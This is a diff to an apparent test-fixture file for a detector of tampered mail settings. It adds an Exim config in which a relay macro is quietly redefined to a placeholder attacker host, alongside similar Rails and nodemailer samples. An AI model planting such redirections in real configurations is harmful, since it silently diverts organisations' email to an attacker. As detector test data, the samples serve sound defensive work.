@@ -72,6 +72,10 @@ export const deployments: Readonly<Record<string, Files>> = {
     'config/environments/development.rb': `Rails.application.configure do\n  config.action_mailer.smtp_settings = { address: "${EVIL}", port: 25 }\nend\n`,
   },
 
+  'exim, a macro that is given another value': {
+    'etc/exim4/exim.conf': `HUB = new-relay.corp.example\nHUB == ${EVIL}\nbegin routers\nall:\n  driver = manualroute\n  transport = remote_smtp\n  route_data = HUB\n`,
+  },
+
   // Languages without a reader of their own.
   'coffee, options on lines of their own': {
     'app/mail.coffee': `nodemailer = require 'nodemailer'\nmodule.exports = nodemailer.createTransport\n  host: '${EVIL}'\n  port: 25\n`,
